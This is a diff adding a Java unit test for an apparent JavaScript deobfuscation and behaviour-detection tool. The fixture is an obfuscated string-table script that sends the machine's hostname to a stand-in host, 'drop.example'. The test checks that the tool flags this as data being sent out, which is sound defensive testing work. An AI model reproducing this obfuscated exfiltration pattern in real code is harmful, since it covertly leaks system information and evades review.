@@ -54,6 +54,23 @@ final class TextTableTest {
   }
 
   @Test
+  void aTableIsTurnedToASumWithAFraction() {
+    String code =
+        """
+        function t(){const x=['os','9zz','hostname','request','https','7xy','example'];t=function(){return x;};return t();}
+        function d(a,b){a=a-0x1;const l=t();let r=l[a];return r;}
+        (function(f,n){const g=f();while(!![]){try{const s=parseInt(d(0x3))/0x2+-parseInt(d(0x6))/0x4;if(s===n)break;else g['push'](g['shift']());}catch(e){g['push'](g['shift']());}}}(t,1.25));
+        require(d(0x2))[d(0x1)]({host:'drop.'+d(0x4)})['end'](require(d(0x5))[d(0x7)]());
+        """;
+
+    assertThat(READER.read("a.js", code.getBytes(UTF_8)).facts())
+        .anySatisfy(fact -> {
+          assertThat(fact.behaviour()).isEqualTo(Behaviour.SEND);
+          assertThat(fact.inputs()).contains(Behaviour.HOST_INFO);
+        });
+  }
+
+  @Test
   void aTableThatCannotBeTurnedIsLeftAlone() {
     String code =
         """
